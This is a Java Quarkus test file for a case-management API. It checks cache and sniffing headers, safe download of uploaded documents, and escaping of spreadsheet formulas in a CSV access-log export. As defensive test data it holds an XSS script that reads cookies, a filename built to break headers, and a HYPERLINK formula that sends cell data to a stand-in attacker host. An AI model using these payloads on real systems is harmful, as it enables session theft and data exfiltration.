package org.uputnica.cases;

import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.common.ResourceArg;
import io.quarkus.test.junit.QuarkusTest;
import jakarta.inject.Inject;
import jakarta.persistence.EntityManager;
import org.junit.jupiter.api.Test;
import org.uputnica.infra.InfrastructureResource;

import java.nio.charset.StandardCharsets;
import java.util.UUID;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.not;
import static org.uputnica.cases.Api.PROBLEM;
import static org.uputnica.cases.Api.as;
import static org.uputnica.cases.Api.openCase;

/**
 * Answers that hold personal data are not cached; a downloaded document cannot act as a page of this service; a CSV
 * export cannot make a spreadsheet run a formula.
 */
@QuarkusTest
@QuarkusTestResource(value = InfrastructureResource.class, initArgs = @ResourceArg(name = "database", value = "cases"))
class PrivateAnswersTest {

    @Inject
    EntityManager em;

    @Test
    void everyApiAnswerIsNotToBeStoredErrorsIncluded() {
        String caseId = openCase("ana.csr", "Nada", "Keš");
        as("ana.csr").when().get("/api/v1/cases/" + caseId).then().statusCode(200)
                .header("Cache-Control", "no-store").header("X-Content-Type-Options", "nosniff");
        as("senad.csr").when().get("/api/v1/cases/" + caseId).then().statusCode(404).contentType(PROBLEM)
                .header("Cache-Control", "no-store");
        given().when().get("/api/v1/cases/" + caseId).then().statusCode(401).header("Cache-Control", "no-store");
    }

    @Test
    void aDocumentIsDownloadedAsAnAttachmentThatNoBrowserRunsOrSniffs() {
        String caseId = openCase("ana.csr", "Dunja", "Preuzeta");
        String docId = as("ana.csr").contentType("text/html")
                .body("<script>alert(document.cookie)</script>".getBytes(StandardCharsets.UTF_8))
                .queryParam("name", "izveštaj \"konačni\";.html")
                .when().post("/api/v1/cases/" + caseId + "/documents").then().statusCode(201).extract().path("id");
        as("ana.csr").when().get("/api/v1/cases/" + caseId + "/documents/" + docId + "/content").then().statusCode(200)
                .header("Content-Disposition", "attachment; filename=\"izve_taj _kona_ni__.html\"; "
                        + "filename*=UTF-8''izve%C5%A1taj%20%22kona%C4%8Dni%22%3B.html")
                .header("Content-Security-Policy", "default-src 'none'; sandbox")
                .header("X-Content-Type-Options", "nosniff")
                .header("Cache-Control", "no-store");
    }

    @Test
    void theAccessLogExportEscapesCellsASpreadsheetWouldRun() { // a leading TAB was not escaped before
        String caseId = openCase("ana.csr", "Ceca", "Formula");
        QuarkusTransaction.requiringNew().run(() -> em.createNativeQuery("""
                        insert into personal_data_access (at, user_id, username, agency, roles, case_id, action, purpose)
                        values (now(), '-1+1', '=HYPERLINK("http://evil.example/?"&A1)', 'csr-kikinda', '+caseworker',
                                :id, 'READ', E'\\t@SUM(1)')""")
                .setParameter("id", UUID.fromString(caseId)).executeUpdate());
        String csv = as("milica.supervisor").accept("text/csv").when().get("/api/v1/cases/" + caseId + "/access-log")
                .then().statusCode(200)
                .header("Content-Disposition", "attachment; filename=\"access-log-" + caseId + ".csv\"; filename*=UTF-8''access-log-"
                        + caseId + ".csv")
                .extract().asString();
        org.hamcrest.MatcherAssert.assertThat(csv, containsString("'=HYPERLINK("));
        org.hamcrest.MatcherAssert.assertThat(csv, containsString("'\t@SUM(1)"));
        org.hamcrest.MatcherAssert.assertThat(csv, containsString("'-1+1"));
        org.hamcrest.MatcherAssert.assertThat(csv, containsString("'+caseworker"));
        org.hamcrest.MatcherAssert.assertThat(csv, not(containsString(",=HYPERLINK")));
    }
}
